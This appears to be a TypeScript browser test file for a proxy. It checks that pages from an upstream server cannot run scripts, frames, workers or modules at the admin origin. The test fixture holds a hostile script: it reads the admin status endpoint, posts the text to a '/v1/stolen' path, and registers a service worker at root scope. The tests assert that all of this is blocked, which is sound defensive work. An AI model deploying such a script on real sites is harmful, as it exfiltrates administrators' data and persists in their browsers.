/// <reference lib="dom" />
/**
 * A page that the upstream serves: it has the origin of the admin page, and must do nothing there.
 *
 * @module
 */
import assert from "node:assert/strict";
import { browserTest } from "./chromium.ts";
import { startServer } from "../support/serve.ts";
import { startUpstream } from "../support/scripted_upstream.ts";

/** Reads the page's data, saves what it read with the upstream, and stays as a service worker. */
const SCRIPT = `
  fetch("/_dragoman/status").then((answer) => answer.text()).then((text) =>
    fetch("/v1/stolen", { method: "POST", body: text })
  );
  navigator.serviceWorker?.register("/v1/worker.js", { scope: "/" });
  globalThis.hasRun = true;
  document.title = "has run";
`;

const PAGE = `<!doctype html><title>waits</title><script>${SCRIPT}</script><p>a page of the upstream`;

function startEvil() {
  return startUpstream(({ path }) => {
    const isScript = path.endsWith(".js");
    const type = isScript ? "text/javascript" : "text/html";
    const headers = { "content-type": type, "service-worker-allowed": "/", "content-security-policy": "" };
    return { error: { status: 200, body: isScript ? SCRIPT : PAGE, headers } };
  });
}

/** How often a page has sent what it read. */
const stolen = ({ requests }: ReturnType<typeof startEvil>) =>
  requests.filter(({ path }) => path === "/v1/stolen").length;

browserTest(
  "a browser loads no page, frame, worker or script from the upstream at our origin",
  async (browser) => {
    await using upstream = startEvil();
    await using server = await startServer(`upstreams: [{ name: evil, url: "${upstream.url}" }]\n`);
    const { page } = await browser.open();
    for (const path of ["/v1/evil.html", "/upstream/evil/v1/evil.html", "/v1/chat/evil"]) {
      const response = await page.goto(server.origin + path);
      assert.equal(response?.status(), 403);
      assert.notEqual(await page.title(), "has run");
    }
    await page.goto(server.page);
    const done = await page.evaluate(async () => {
      const frame = document.createElement("iframe");
      frame.src = "/v1/evil.html";
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener("load", resolve));
      const settled = async (doing: Promise<unknown>) => await doing.then(() => "done", () => "refused");
      return {
        worker: await settled(navigator.serviceWorker.register("/v1/worker.js", { scope: "/v1/" })),
        module: await settled(import(location.origin + "/v1/own.js")),
        hasRun: "hasRun" in globalThis,
        workers: (await navigator.serviceWorker.getRegistrations()).length,
        // A program of the page itself may ask the API.
        fetched: (await fetch("/v1/evil.html")).status,
      };
    });
    assert.deepEqual(done, { worker: "refused", module: "refused", hasRun: false, workers: 0, fetched: 200 });
    assert.equal(stolen(upstream), 0);
  },
);

browserTest("a page of the upstream runs nothing in a browser that names no destination", async (browser) => {
  await using upstream = startEvil();
  await using server = await startServer(`upstreams: [{ name: evil, url: "${upstream.url}" }]\n`);
  const { page, troubles } = await browser.open();
  // What the driver fetches has no Sec-Fetch headers, as in browsers before 2023 and at addresses without TLS.
  await page.route("**/*", async (route) => {
    const { "sec-fetch-dest": _, "sec-fetch-mode": __, "sec-fetch-site": ___, ...headers } = route.request()
      .headers();
    const response = await route.fetch({ headers });
    await route.fulfill({ response });
  });
  const response = await page.goto(`${server.origin}/v1/evil.html`);
  assert.equal(response?.status(), 200);
  await page.getByText("a page of the upstream").waitFor();
  assert.equal(await page.title(), "waits");
  assert.match(troubles.join("\n"), /sandboxed|Content Security Policy/i);
  assert.equal(await page.evaluate(() => globalThis.origin), "null");
  assert.equal(stolen(upstream), 0);
});
